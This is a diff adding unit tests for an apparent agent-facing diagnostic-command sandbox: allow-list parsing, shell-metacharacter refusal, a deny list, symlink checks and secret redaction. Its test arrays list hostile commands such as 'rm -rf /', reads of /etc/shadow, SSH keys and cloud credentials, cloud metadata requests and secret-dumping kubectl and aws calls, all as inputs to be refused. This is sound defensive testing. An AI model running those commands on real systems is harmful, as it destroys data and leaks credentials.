@@ -13,6 +13,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 
 #include <jq.h>
 #include <openssl/evp.h>
@@ -21,6 +22,7 @@
 
 #include "auth.h"
 #include "buf.h"
+#include "diag.h"
 #include "http_parse.h"
 #include "inbox.h"
 #include "llm.h"
@@ -1041,10 +1043,475 @@ out:
 	return status;
 }
 
+/* ------------------------------------------------------------------ diag */
+
+static struct aur_diag_policy *diag_policy(const char *text)
+{
+	struct aur_diag_policy *p = NULL;
+	char err[512] = "";
+
+	if (aur_diag_policy_parse(text, "test.conf", &p, err, sizeof(err)) < 0)
+		printf("FAIL diag policy: %s\n", err);
+	return p;
+}
+
+/* the error of a policy that must not load: "" when it loaded */
+static const char *diag_policy_error(const char *text, char *err, size_t len)
+{
+	struct aur_diag_policy *p = NULL;
+
+	err[0] = '\0';
+	if (aur_diag_policy_parse(text, "test.conf", &p, err, len) == 0) {
+		aur_diag_policy_free(p);
+		err[0] = '\0';
+	}
+	return err;
+}
+
+/* aur_diag_check's answer; reason gets why */
+static int diag_check(const struct aur_diag_policy *p, const char *text, char *reason, size_t len)
+{
+	struct aur_diag_cmd cmd;
+	int rc = aur_diag_check(p, text, &cmd, reason, len);
+
+	aur_diag_cmd_release(&cmd);
+	return rc;
+}
+
+static void test_diag_policy(void)
+{
+	char err[512];
+
+	CHECK(strstr(diag_policy_error("# c\n\n/bin/echo <arg>\n@timeout 5000\n@max-output 100\n"
+				       "@env KUBECONFIG=/etc/k\nls ...\n", err, sizeof(err)), "") != NULL);
+	CHECK(!strcmp(err, ""));
+	CHECK(strstr(diag_policy_error("ls\nls <file>\n", err, sizeof(err)), "test.conf: line 2: ") == err);
+	CHECK(strstr(diag_policy_error("ls ... -l\n", err, sizeof(err)), "line 1: `...` must be the last") != NULL);
+	CHECK(strstr(diag_policy_error("\n\nls a|b\n", err, sizeof(err)), "line 3: '|' in `a|b`") != NULL);
+	CHECK(strstr(diag_policy_error("bin/ls\n", err, sizeof(err)), "line 1: the program `bin/ls`") != NULL);
+	CHECK(strstr(diag_policy_error("/usr/../bin/ls\n", err, sizeof(err)), "line 1:") != NULL);
+	CHECK(strstr(diag_policy_error("@timeout 0\n", err, sizeof(err)), "line 1: @timeout wants") != NULL);
+	CHECK(strstr(diag_policy_error("@timeout 600001\n", err, sizeof(err)), "line 1:") != NULL);
+	CHECK(strstr(diag_policy_error("@max-output 10k\n", err, sizeof(err)), "line 1:") != NULL);
+	CHECK(strstr(diag_policy_error("@max-output 1048577\n", err, sizeof(err)), "line 1:") != NULL);
+	CHECK(!strcmp(diag_policy_error("@max-output 1048576\n", err, sizeof(err)), ""));
+	CHECK(strstr(diag_policy_error("@env LD_PRELOAD=/x.so\n", err, sizeof(err)), "line 1: @env LD_PRELOAD") != NULL);
+	CHECK(strstr(diag_policy_error("@env PATH=/tmp\n", err, sizeof(err)), "line 1: @env PATH") != NULL);
+	CHECK(strstr(diag_policy_error("@shell /bin/sh\n", err, sizeof(err)), "unknown setting") != NULL);
+	CHECK(strstr(diag_policy_error("ls <arg\n", err, sizeof(err)), "'<'") != NULL);
+
+	{
+		struct aur_diag_policy *p = diag_policy("@timeout 1234\n@max-output 99\n");
+		CHECK(p && aur_diag_policy_timeout_ms(p) == 1234 && aur_diag_policy_max_output(p) == 99);
+		aur_diag_policy_free(p);
+		p = diag_policy("");
+		CHECK(p && aur_diag_policy_timeout_ms(p) == AUR_DIAG_DEFAULT_TIMEOUT_MS &&
+		      aur_diag_policy_max_output(p) == AUR_DIAG_DEFAULT_MAX_OUTPUT);
+		aur_diag_policy_free(p);
+	}
+	{
+		struct aur_diag_policy *p = NULL;
+		CHECK(aur_diag_policy_load("/nonexistent/allow.conf", &p, err, sizeof(err)) == -ENOENT && !p);
+		CHECK(strstr(err, "/nonexistent/allow.conf: ") == err);
+	}
+}
+
+static void test_diag_match(void)
+{
+	struct aur_diag_policy *p = diag_policy("/bin/echo hello <arg>\n"
+						"/bin/echo n <num>\n"
+						"/bin/echo tail --tail=<num>\n"
+						"/bin/echo rest ...\n"
+						"ls -l <arg>   # a comment\n"
+						"uname\n");
+	struct aur_diag_cmd cmd;
+	char why[512];
+
+	CHECK(p != NULL);
+	CHECK(aur_diag_check(p, "/bin/echo hello world", &cmd, why, sizeof(why)) == 0);
+	CHECK(cmd.argc == 3 && !strcmp(cmd.path, "/bin/echo") && !strcmp(cmd.argv[2], "world") &&
+	      cmd.argv[3] == NULL);
+	aur_diag_cmd_release(&cmd);
+	aur_diag_cmd_release(&cmd); /* twice is harmless */
+	CHECK(aur_diag_check(p, "  /bin/echo\thello   a.b:c/d=e@f,g+h%i-j  ", &cmd, why, sizeof(why)) == 0);
+	aur_diag_cmd_release(&cmd);
+	/* a name is found in the fixed PATH; its absolute path names it too */
+	CHECK(aur_diag_check(p, "ls -l /tmp", &cmd, why, sizeof(why)) == 0);
+	CHECK(cmd.path && cmd.path[0] == '/' && !strcmp(cmd.argv[0], "ls"));
+	{
+		char abs[4096];
+		snprintf(abs, sizeof(abs), "%s -l /tmp", cmd.path ? cmd.path : "x");
+		aur_diag_cmd_release(&cmd);
+		CHECK(diag_check(p, abs, why, sizeof(why)) == 0);
+	}
+	CHECK(diag_check(p, "uname", why, sizeof(why)) == 0);
+	CHECK(diag_check(p, "uname -a", why, sizeof(why)) == -EPERM);
+	CHECK(strstr(why, "refused: `uname -a` because no rule of the allow-list test.conf permits it") == why);
+	/* <arg> is one name: never an option, never a way up, never two words */
+	CHECK(diag_check(p, "ls -l -a", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "ls -l ..", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "ls -l ../etc", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "ls -l /var/../etc", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "ls -l", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "/bin/echo hello a b", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "echo hello a", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "/bin/echo n 123456789", why, sizeof(why)) == 0);
+	CHECK(diag_check(p, "/bin/echo n 1234567890", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "/bin/echo n 1x", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "/bin/echo tail --tail=50", why, sizeof(why)) == 0);
+	CHECK(diag_check(p, "/bin/echo tail --tail=", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "/bin/echo tail --tail=x", why, sizeof(why)) == -EPERM);
+	CHECK(diag_check(p, "/bin/echo rest", why, sizeof(why)) == 0);
+	CHECK(diag_check(p, "/bin/echo rest -a --b=c d", why, sizeof(why)) == 0);
+	CHECK(diag_check(p, "", why, sizeof(why)) == -EINVAL);
+	CHECK(diag_check(p, "   ", why, sizeof(why)) == -EINVAL);
+	CHECK(diag_check(NULL, "uname", why, sizeof(why)) == -EPERM);
+	/* argv as given, checked the same way */
+	{
+		const char *ok[] = { "/bin/echo", "hello", "x", NULL };
+		const char *bad[] = { "/bin/echo", "hello", "x y", NULL };
+		CHECK(aur_diag_check_argv(p, 3, ok, &cmd, why, sizeof(why)) == 0);
+		aur_diag_cmd_release(&cmd);
+		CHECK(aur_diag_check_argv(p, 3, bad, &cmd, why, sizeof(why)) == -EPERM && !cmd.argv);
+	}
+	aur_diag_policy_free(p);
+}
+
+static void test_diag_metachars(void)
+{
+	static const char *const bad[] = {
+		"ls -l /tmp; rm -rf /", "ls -l /tmp | cat", "ls -l /tmp && id", "ls -l $(id)",
+		"ls -l `id`", "ls -l /tmp > /tmp/x", "ls -l < /etc/passwd", "ls -l /tmp\nid",
+		"ls -l '/tmp'", "ls -l \"/tmp\"", "ls -l /t*", "ls -l /tm?", "ls -l ~",
+		"ls -l {a,b}", "ls -l (x)", "ls -l a\\ b", "ls -l !x", "ls -l #x", "ls -l [ab]",
+		"ls -l ${HOME}", "ls -l /tmp &", "ls -l \x01", "ls -l caf\xc3\xa9", "ls -l a^b",
+		NULL,
+	};
+	struct aur_diag_policy *p = diag_policy("ls ...\n");
+	char why[512];
+
+	for (size_t i = 0; bad[i]; i++) {
+		int rc = diag_check(p, bad[i], why, sizeof(why));
+		CHECK(rc == -EPERM);
+		CHECK(strstr(why, "without a shell") != NULL);
+		if (rc != -EPERM)
+			printf("FAIL diag metachar allowed: %s\n", bad[i]);
+	}
+	CHECK(diag_check(p, "ls -l /tmp|cat", why, sizeof(why)) == -EPERM);
+	CHECK(strstr(why, "refused: '|' in the command") == why);
+	CHECK(diag_check(p, "ls -l /tmp\n", why, sizeof(why)) == -EPERM);
+	CHECK(strstr(why, "a newline") != NULL);
+	aur_diag_policy_free(p);
+}
+
+static void test_diag_deny(void)
+{
+	/* an allow-list that tries to permit everything below */
+	struct aur_diag_policy *p = diag_policy(
+		"kubectl ...\naws ...\nvault ...\ngcloud ...\naz ...\ngit ...\nsystemctl ...\n"
+		"cat ...\n/bin/cat /etc/shadow\nhead ...\ntail ...\ngrep ...\nless ...\nenv ...\n"
+		"printenv\nrm ...\ncurl ...\nbash ...\nsh ...\npython3 ...\n/usr/bin/env ...\n"
+		"docker ...\nfind ...\nservice ...\njournalctl ...\nopenssl ...\nip ...\n"
+		"sysctl ...\nhelm ...\nwget ...\nsed ...\nxargs ...\n");
+	static const char *const denied[] = {
+		"kubectl get secret db-pass", "kubectl get secrets -A", "kubectl get Secret/x",
+		"kubectl get pods,secrets -o yaml", "kubectl describe secret x",
+		"kubectl -n prod get secrets.v1 -o json", "kubectl exec web-1 -- ls",
+		"kubectl cp web-1:/etc/x /tmp/x", "kubectl port-forward svc/web 8080:80",
+		"kubectl delete pod web-1", "kubectl apply -f x.yaml", "kubectl edit deploy/web",
+		"kubectl patch deploy web -p x", "kubectl scale deploy/web --replicas=0",
+		"kubectl rollout restart deploy/web", "kubectl rollout undo deploy/web",
+		"kubectl get --raw /api/v1/namespaces", "kubectl get pods --as=system:admin",
+		"kubectl config view --raw", "kubectl run x --image=busybox",
+		"aws secretsmanager get-secret-value --secret-id prod/db",
+		"aws ssm get-parameter --name /db/pass --with-decryption",
+		"aws ssm get-parameters-by-path --path /prod --with-decryption=true",
+		"aws ec2 terminate-instances --instance-ids i-1", "aws configure get x",
+		"aws ecr get-login-password", "aws sts assume-role --role-arn x",
+		"aws s3 cp s3://b/k /tmp/k", "aws kms decrypt --ciphertext-blob x",
+		"vault read secret/db", "vault kv get secret/db", "vault token create",
+		"gcloud secrets versions access latest --secret=db",
+		"gcloud auth print-access-token", "gcloud compute instances delete vm-1",
+		"az keyvault secret show --name x", "az account get-access-token",
+		"git push origin main", "git -c core.pager=id log", "git commit -m x",
+		"git reset --hard HEAD", "git config --get remote.origin.url",
+		"git log --output=/tmp/x", "git grep -O x", "git clean -fdx",
+		"systemctl restart nginx", "systemctl stop nginx", "systemctl daemon-reload",
+		"systemctl show-environment", "systemctl -H prod status nginx",
+		"service nginx restart", "journalctl --vacuum-time=1s", "journalctl --rotate",
+		"cat /etc/shadow", "/bin/cat /etc/shadow", "cat /home/u/.ssh/id_rsa",
+		"cat /home/u/.ssh/known_hosts", "head -n 5 /etc/ssl/server.key",
+		"tail /srv/app/.env", "tail /srv/app/.env.production", "grep x /root/.netrc",
+		"less /var/lib/pg/.pgpass", "cat /root/.aws/credentials", "cat /proc/1/environ",
+		"cat /srv/tls/cert.pem", "cat /run/secrets/db", "cat terraform.tfstate",
+		"cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+		"git show HEAD:.env", "grep -r password /etc", "grep -rn x /srv", "grep -R x /srv",
+		"grep --recursive x /srv", "env", "printenv", "/usr/bin/env", "env -i id",
+		"rm -rf /tmp/x", "bash -c id", "sh -c id", "python3 -c x", "sed -n 1e /dev/null",
+		"xargs id", "wget http://example.com/", "curl -X POST http://127.0.0.1/",
+		"curl --data=a http://127.0.0.1/", "curl -d a http://127.0.0.1/",
+		"curl --data-binary=@/etc/hosts http://x/", "curl -o /tmp/x http://x/",
+		"curl -sSo /tmp/x http://x/", "curl file:///etc/hosts", "curl -u a:b http://x/",
+		"curl http://169.254.169.254/latest/meta-data/iam/",
+		"curl http://metadata.google.internal/computeMetadata/v1/",
+		"docker exec web id", "docker run alpine", "docker rm -f web",
+		"docker --config=/root/.docker ps", "find / -name x -delete",
+		"find / -exec id", "openssl rsa -in /etc/x", "openssl enc -d",
+		"ip netns exec x id", "ip link set eth0 down", "sysctl -w vm.swappiness=1",
+		"sysctl vm.swappiness=1", "helm get values web", "helm uninstall web",
+		"aws lambda get-function-configuration --function-name x",
+		"curl --unix-socket /run/docker.sock http://d/containers/json",
+		"curl --url=file:///etc/hosts", "kubectl debug node/x -it --image=busybox",
+		"kubectl attach web-1", "k3s ctr images ls", "vault", "etcdctl get / --prefix",
+		NULL,
+	};
+	static const char *const not_denied[] = {
+		"kubectl get pods -n prod", "kubectl describe pod web-1 -n prod",
+		"kubectl logs web-1 -n prod --tail=100", "kubectl -n prod get events",
+		"kubectl rollout status deploy/web", "kubectl top pods",
+		"aws ec2 describe-instances", "aws logs filter-log-events --log-group-name x",
+		"aws s3 ls", "aws --region eu-west-1 cloudwatch get-metric-data",
+		"gcloud compute instances list", "git log -5", "git -C /srv/app show abc123",
+		"git diff HEAD~1", "systemctl status nginx", "systemctl --failed",
+		"systemctl list-units --state=failed", "service nginx status",
+		"journalctl -u nginx --since=-1h -n 200", "cat /var/log/nginx/error.log",
+		"tail -n 100 /var/log/syslog", "grep -n error /var/log/syslog",
+		"curl -sS http://127.0.0.1:8080/health", "curl -I https://example.com/",
+		"docker ps -a", "docker logs --tail=50 web", "find /var/log -name x",
+		"openssl s_client -connect example.com:443", "ip addr", "ip route show",
+		"sysctl vm.swappiness", "helm list -A", "df -h", "du -sh /var/log", "vault status",
+		NULL,
+	};
+	char why[512];
+
+	CHECK(p != NULL);
+	for (size_t i = 0; denied[i]; i++) {
+		int rc = diag_check(p, denied[i], why, sizeof(why));
+		CHECK(rc == -EPERM);
+		if (rc != -EPERM)
+			printf("FAIL diag deny let through: %s\n", denied[i]);
+		else if (!strstr(why, "deny list refuses it whatever the allow-list says"))
+			printf("FAIL diag deny reason for %s: %s\n", denied[i], why);
+		CHECK(strstr(why, "refused: `") == why);
+	}
+	for (size_t i = 0; not_denied[i]; i++) {
+		const char *argv[AUR_DIAG_MAX_WORDS + 1];
+		char copy[512];
+		size_t argc = 0;
+		char *save = NULL;
+		int rc;
+
+		snprintf(copy, sizeof(copy), "%s", not_denied[i]);
+		for (char *w = strtok_r(copy, " ", &save); w; w = strtok_r(NULL, " ", &save))
+			argv[argc++] = w;
+		rc = aur_diag_denied(argc, argv, why, sizeof(why));
+		CHECK(rc == 0);
+		if (rc != 0)
+			printf("FAIL diag deny refused %s: %s\n", not_denied[i], why);
+	}
+	/* a reason never repeats a secret the command carried */
+	CHECK(diag_check(p, "curl -u admin:password=hunter2 http://x/", why, sizeof(why)) == -EPERM);
+	CHECK(strstr(why, "hunter2") == NULL && strstr(why, "[redacted]") != NULL);
+	aur_diag_policy_free(p);
+}
+
+/* a symlink allowed by its own path is denied under the program it is */
+static void test_diag_symlink(void)
+{
+	char dir[] = "/tmp/aurora-diag-XXXXXX";
+	char link[128];
+	char text[256];
+	char why[512];
+	struct aur_diag_policy *p;
+
+	if (!mkdtemp(dir)) {
+		CHECK(!"mkdtemp");
+		return;
+	}
+	snprintf(link, sizeof(link), "%s/look", dir);
+	CHECK(symlink("/bin/sh", link) == 0);
+	snprintf(text, sizeof(text), "%s ...\n", link);
+	p = diag_policy(text);
+	snprintf(text, sizeof(text), "%s -c id", link);
+	CHECK(diag_check(p, text, why, sizeof(why)) == -EPERM);
+	CHECK(strstr(why, "deny list") != NULL);
+	aur_diag_policy_free(p);
+	unlink(link);
+	rmdir(dir);
+}
+
+/* 1 when redacting in gives want */
+static int redacts_to(const char *in, const char *want)
+{
+	size_t n = 0;
+	unsigned count = 0;
+	char *out = aur_diag_redact(in, strlen(in), &n, &count);
+	int ok = !strcmp(out, want) && n == strlen(want);
+
+	if (!ok)
+		printf("FAIL diag redact:\n  in:   %s\n  got:  %s\n  want: %s\n", in, out, want);
+	free(out);
+	return ok;
+}
+
+static void test_diag_redact(void)
+{
+	static const char key[] = "a\n-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nAAAA\n"
+				  "-----END RSA PRIVATE KEY-----\nb\n";
+	static const char cut[] = "x -----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1r";
+	static const char cert[] = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n";
+	size_t n = 0;
+	unsigned count = 0;
+	char *out;
+
+	CHECK(redacts_to("nothing to see", "nothing to see"));
+	CHECK(redacts_to("", ""));
+	CHECK(redacts_to("password=hunter2 ok", "password=[redacted] ok"));
+	CHECK(redacts_to("DB_PASSWORD: s3cr3t!x\n", "DB_PASSWORD: [redacted]\n"));
+	CHECK(redacts_to("{\"client_secret\": \"abc\", \"n\": 1}", "{\"client_secret\": \"[redacted]\", \"n\": 1}"));
+	CHECK(redacts_to("--token=abcdef x", "--token=[redacted] x"));
+	CHECK(redacts_to("Authorization: Bearer abc.def-ghi_jkl\n", "Authorization: [redacted]\n"));
+	CHECK(redacts_to("curl -H x Bearer eyJhbGciOi12345", "curl -H x Bearer [redacted]"));
+	CHECK(redacts_to("id AKIAIOSFODNN7EXAMPLE end", "id [redacted] end"));
+	CHECK(redacts_to("jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sig_nature-x end",
+			 "jwt [redacted] end"));
+	CHECK(redacts_to("gh ghp_abcdefghijklmnopqrstuvwxyz0123 end", "gh [redacted] end"));
+	CHECK(redacts_to("postgres://app:pa55word@db:5432/x", "postgres://app:[redacted]@db:5432/x"));
+	/* Kubernetes env, as -o yaml, -o json and on one line */
+	CHECK(redacts_to("    - name: DB_PASSWORD\n      value: hunter2\n    - name: MODE\n      value: fast\n",
+			 "    - name: DB_PASSWORD\n      value: [redacted]\n    - name: MODE\n      value: fast\n"));
+	CHECK(redacts_to("  {\n    \"name\": \"API_TOKEN\",\n    \"value\": \"abc def\"\n  }\n",
+			 "  {\n    \"name\": \"API_TOKEN\",\n    \"value\": \"[redacted]\"\n  }\n"));
+	CHECK(redacts_to("{\"name\":\"STRIPE_SECRET\",\"value\":\"sk_live_1\"}",
+			 "{\"name\":\"STRIPE_SECRET\",\"value\":\"[redacted]\"}"));
+	CHECK(redacts_to(key, "a\n[redacted]\nb\n"));
+	CHECK(redacts_to(cut, "[redacted]"));
+	CHECK(redacts_to(cert, cert));
+	/* a mangled header: the body above the END line goes with it (the fuzzer's find) */
+	CHECK(redacts_to("x\n-----BEGIN RSA PRIVATE KEY--\nMIIE\n-----END RSA PRIVATE KEY-----\ny\n",
+			 "x\n[redacted]\ny\n"));
+	CHECK(redacts_to("x\nBEGIN KEY\nMIIEow==\nAAAA\n-----END PRIVATE KEY-----\ny\n",
+			 "x\nBEGIN KEY\n[redacted]\ny\n"));
+	CHECK(redacts_to("loading PRIVATE KEY from disk\nok\n", "[redacted]\nok\n"));
+	CHECK(redacts_to("signing key: Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MEFCQ0RFRkdISUpLTE1O\n",
+			 "signing key: [redacted]\n"));
+	/* runs that only look long are kept: paths, words, a commit on its own line */
+	CHECK(redacts_to("commit 3f2a9c1e5b7d4f6a8c0e2b4d6f8a0c2e4b6d8f0a\n",
+			 "commit 3f2a9c1e5b7d4f6a8c0e2b4d6f8a0c2e4b6d8f0a\n"));
+	CHECK(redacts_to("key path /var/lib/kubelet/pods/abcdefghijklmnopqrstuvwxyz/volumes\n",
+			 "key path /var/lib/kubelet/pods/abcdefghijklmnopqrstuvwxyz/volumes\n"));
+	/* NUL bytes become spaces; the count is of secrets replaced */
+	out = aur_diag_redact("a\0b password=x token=y", 22, &n, &count);
+	CHECK(!strcmp(out, "a b password=[redacted] token=[redacted]") && count == 2 &&
+	      n == strlen(out));
+	free(out);
+	/* redacting twice changes nothing more */
+	out = aur_diag_redact("password=[redacted]", 19, &n, &count);
+	CHECK(!strcmp(out, "password=[redacted]") && count == 0);
+	free(out);
+}
+
+static void test_diag_run(void)
+{
+	struct aur_diag_policy *p = diag_policy("/bin/echo ...\n@timeout 5000\n");
+	struct aur_diag_result res;
+	struct aur_diag_cmd cmd;
+	char why[512];
+	char err[256] = "";
+	char line[256];
+
+	CHECK(aur_diag_check(p, "/bin/echo hello api_key=hunter2", &cmd, why, sizeof(why)) == 0);
+	CHECK(aur_diag_run(p, &cmd, 0, 0, &res, err, sizeof(err)) == 0);
+	CHECK(res.output && !strcmp(res.output, "hello api_key=[redacted]\n"));
+	CHECK(res.exited && res.exit_code == 0 && !res.timed_out && !res.truncated && res.reaped);
+	CHECK(res.redactions == 1);
+	CHECK(!strcmp(aur_diag_result_describe(&res, line, sizeof(line)), "exit 0"));
+	aur_diag_result_release(&res);
+	/* the cap keeps the first bytes and counts the rest */
+	CHECK(aur_diag_run(p, &cmd, 0, 5, &res, err, sizeof(err)) == 0);
+	CHECK(res.output && !strcmp(res.output, "hello") && res.truncated && res.discarded == 17);
+	CHECK(!strcmp(aur_diag_result_describe(&res, line, sizeof(line)),
+		      "exit 0, output cut at 5 bytes (17 more discarded)"));
+	aur_diag_result_release(&res);
+	CHECK(aur_diag_run(p, &cmd, -1, 0, &res, err, sizeof(err)) == -EINVAL);
+	aur_diag_result_release(&res);
+	aur_diag_cmd_release(&cmd);
+	/* check and run in one call, as a tool call does */
+	CHECK(aur_diag_run_text(p, "/bin/echo one  two", &res, why, sizeof(why)) == 0);
+	CHECK(res.output && !strcmp(res.output, "one two\n") && res.exited && res.exit_code == 0);
+	aur_diag_result_release(&res);
+	CHECK(aur_diag_run_text(p, "/bin/echo x;id", &res, why, sizeof(why)) == -EPERM);
+	CHECK(res.output == NULL && strstr(why, "refused: ';'") == why);
+	aur_diag_policy_free(p);
+}
+
+/*
+ * unit-tests diag-run ALLOWFILE TIMEOUT_MS MAX_OUTPUT COMMAND: check and run
+ * one command as an investigator would, for tests/diag.bats. Prints one
+ * JSON object: the result, or {"refused": reason} (exit 1); exit 78 when the
+ * allow-list does not load.
+ */
+static int diag_run_main(int argc, char **argv)
+{
+	struct aur_diag_policy *p = NULL;
+	struct aur_diag_result res;
+	struct aur_diag_cmd cmd;
+	char err[512] = "";
+	char why[1024] = "";
+	char line[256];
+	jv o;
+	jv s;
+	int rc;
+
+	if (argc != 6) {
+		fprintf(stderr, "usage: unit-tests diag-run ALLOWFILE TIMEOUT_MS MAX_OUTPUT COMMAND\n");
+		return 2;
+	}
+	if (aur_diag_policy_load(argv[2], &p, err, sizeof(err)) < 0) {
+		fprintf(stderr, "unit-tests: %s\n", err);
+		return 78;
+	}
+	if (aur_diag_check(p, argv[5], &cmd, why, sizeof(why)) < 0) {
+		o = jv_object_set(jv_object(), jv_string("refused"), jv_string(why));
+		rc = 1;
+		goto print;
+	}
+	rc = aur_diag_run(p, &cmd, (int)strtol(argv[3], NULL, 10), (size_t)strtoul(argv[4], NULL, 10),
+			  &res, err, sizeof(err));
+	aur_diag_cmd_release(&cmd);
+	if (rc < 0) {
+		fprintf(stderr, "unit-tests: %s\n", err);
+		aur_diag_policy_free(p);
+		return 70;
+	}
+	o = jv_object();
+	o = jv_object_set(o, jv_string("output"), jv_string_sized(res.output, (int)res.output_len));
+	o = jv_object_set(o, jv_string("truncated"), jv_bool(res.truncated));
+	o = jv_object_set(o, jv_string("discarded"), jv_number((double)res.discarded));
+	o = jv_object_set(o, jv_string("exit_code"), res.exited ? jv_number(res.exit_code) : jv_null());
+	o = jv_object_set(o, jv_string("signal"), jv_number(res.signal));
+	o = jv_object_set(o, jv_string("timed_out"), jv_bool(res.timed_out));
+	o = jv_object_set(o, jv_string("reaped"), jv_bool(res.reaped));
+	o = jv_object_set(o, jv_string("elapsed_ms"), jv_number((double)res.elapsed_ms));
+	o = jv_object_set(o, jv_string("redactions"), jv_number(res.redactions));
+	o = jv_object_set(o, jv_string("describe"),
+			  jv_string(aur_diag_result_describe(&res, line, sizeof(line))));
+	aur_diag_result_release(&res);
+	rc = 0;
+print:
+	s = jv_dump_string(o, 0);
+	printf("%s\n", jv_string_value(s));
+	jv_free(s);
+	aur_diag_policy_free(p);
+	return rc;
+}
+
 int main(int argc, char **argv)
 {
 	if (argc == 3 && strcmp(argv[1], "llm-chat") == 0)
 		return llm_chat_main(argv[2]);
+	if (argc > 1 && !strcmp(argv[1], "diag-run"))
+		return diag_run_main(argc, argv);
 	test_time();
 	test_sha256_vectors();
 	test_hmac_rfc4231();
@@ -1057,6 +1524,13 @@ int main(int argc, char **argv)
 	test_recent();
 	test_framing();
 	test_llm();
+	test_diag_policy();
+	test_diag_match();
+	test_diag_metachars();
+	test_diag_deny();
+	test_diag_symlink();
+	test_diag_redact();
+	test_diag_run();
 	printf("%d passed, %d failed\n", passed, failed);
 	return failed ? 1 : 0;
 }
